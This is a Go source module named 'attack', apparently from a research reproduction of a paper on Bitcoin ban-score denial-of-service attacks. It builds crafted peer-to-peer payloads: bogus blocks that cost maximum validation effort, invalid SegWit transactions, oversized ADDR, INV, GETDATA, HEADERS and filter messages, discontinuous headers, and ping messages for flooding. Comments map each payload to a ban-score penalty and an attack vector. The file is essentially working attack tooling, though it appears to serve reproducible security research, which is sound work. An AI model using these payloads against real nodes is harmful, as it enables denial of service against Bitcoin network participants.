package attack

import (
	"bytes"
	"net"
	"sync/atomic"
	"time"

	"banscore/internal/blockchain"
	"banscore/internal/chainhash"
	"banscore/internal/wire"
)

// Forge crafts the attack payloads of the paper's vectors. All methods are
// deterministic given the seed state so experiments are reproducible, and
// safe to share across flood goroutines (the sequence is atomic).
type Forge struct {
	params *blockchain.Params
	seq    atomic.Uint64
}

// NewForge returns a Forge for the given chain parameters.
func NewForge(params *blockchain.Params) *Forge {
	return &Forge{params: params}
}

func (f *Forge) nextSeq() uint64 {
	return f.seq.Add(1)
}

// hash produces a deterministic unique hash.
func (f *Forge) hash() chainhash.Hash {
	n := f.nextSeq()
	return chainhash.DoubleHashH([]byte{
		byte(n), byte(n >> 8), byte(n >> 16), byte(n >> 24),
		byte(n >> 32), byte(n >> 40), byte(n >> 48), byte(n >> 56),
	})
}

// BogusBlock builds a BLOCK whose previous block is unknown and whose proof
// of work is unsolved: the application layer (if reached) rejects it with
// maximum validation cost. Paired with a corrupt checksum it becomes the
// paper's headline BM-DoS payload.
func (f *Forge) BogusBlock(txCount int) *wire.MsgBlock {
	prev := f.hash()
	txs := make([]*wire.MsgTx, 0, txCount)
	for i := 0; i < txCount; i++ {
		txs = append(txs, f.ValidTx())
	}
	return blockchain.BuildBlock(f.params, prev, 1, f.nextSeq(), time.Unix(1700000000, 0), txs)
}

// EncodeBlock serializes a block payload for SendRaw/SendBogusChecksum.
func EncodeBlock(block *wire.MsgBlock) []byte {
	buf := wire.GetBuf(0)
	defer buf.Release()
	_ = block.BtcEncode(buf, wire.ProtocolVersion)
	return bytes.Clone(buf.Bytes())
}

// ValidTx builds a structurally valid transaction with a unique input.
func (f *Forge) ValidTx() *wire.MsgTx {
	tx := wire.NewMsgTx(wire.TxVersion)
	prev := f.hash()
	tx.AddTxIn(wire.NewTxIn(wire.NewOutPoint(&prev, 0), []byte{0x51}, nil))
	tx.AddTxOut(wire.NewTxOut(1000, []byte{0x51}))
	return tx
}

// InvalidSegWitTx builds a transaction violating the SegWit consensus rules
// (witness alongside a signature script) — Table I scores it 100.
func (f *Forge) InvalidSegWitTx() *wire.MsgTx {
	tx := f.ValidTx()
	tx.TxIn[0].Witness = wire.TxWitness{[]byte{0x01}}
	return tx
}

// OversizeAddr builds an ADDR with MaxAddrPerMsg+1 entries (+20).
func (f *Forge) OversizeAddr() *wire.MsgAddr {
	m := wire.NewMsgAddr()
	na := wire.NewNetAddressIPPort(net.IPv4(198, 51, 100, 1), 8333, 0)
	na.Timestamp = time.Unix(1700000000, 0)
	for i := 0; i < wire.MaxAddrPerMsg+1; i++ {
		m.AddAddress(na)
	}
	return m
}

// OversizeInv builds an INV with MaxInvPerMsg+1 entries (+20).
func (f *Forge) OversizeInv() *wire.MsgInv {
	m := wire.NewMsgInv()
	h := f.hash()
	iv := wire.NewInvVect(wire.InvTypeTx, &h)
	for i := 0; i < wire.MaxInvPerMsg+1; i++ {
		m.AddInvVect(iv)
	}
	return m
}

// OversizeGetData builds a GETDATA with MaxInvPerMsg+1 entries (+20).
func (f *Forge) OversizeGetData() *wire.MsgGetData {
	m := wire.NewMsgGetData()
	h := f.hash()
	iv := wire.NewInvVect(wire.InvTypeTx, &h)
	for i := 0; i < wire.MaxInvPerMsg+1; i++ {
		m.AddInvVect(iv)
	}
	return m
}

// OversizeHeaders builds a HEADERS with MaxBlockHeadersPerMsg+1 entries (+20).
func (f *Forge) OversizeHeaders() *wire.MsgHeaders {
	m := wire.NewMsgHeaders()
	hdr := &wire.BlockHeader{Timestamp: time.Unix(1700000000, 0)}
	for i := 0; i < wire.MaxBlockHeadersPerMsg+1; i++ {
		m.AddBlockHeader(hdr)
	}
	return m
}

// NonContinuousHeaders builds a discontinuous HEADERS sequence (+20).
func (f *Forge) NonContinuousHeaders() *wire.MsgHeaders {
	m := wire.NewMsgHeaders()
	h1 := &wire.BlockHeader{Nonce: 1, Timestamp: time.Unix(1700000000, 0)}
	h2 := &wire.BlockHeader{Nonce: 2, PrevBlock: f.hash(), Timestamp: time.Unix(1700000000, 0)}
	m.AddBlockHeader(h1)
	m.AddBlockHeader(h2)
	return m
}

// OversizeFilterLoad builds a FILTERLOAD above 36000 bytes (+100).
func (f *Forge) OversizeFilterLoad() *wire.MsgFilterLoad {
	return wire.NewMsgFilterLoad(make([]byte, wire.MaxFilterLoadFilterSize+1), 1, 0, wire.BloomUpdateNone)
}

// OversizeFilterAdd builds a FILTERADD above 520 bytes (+100).
func (f *Forge) OversizeFilterAdd() *wire.MsgFilterAdd {
	return wire.NewMsgFilterAdd(make([]byte, wire.MaxFilterAddDataSize+1))
}

// Ping builds the score-free flooding message of BM-DoS vector 1.
func (f *Forge) Ping() *wire.MsgPing { return wire.NewMsgPing(f.nextSeq()) }
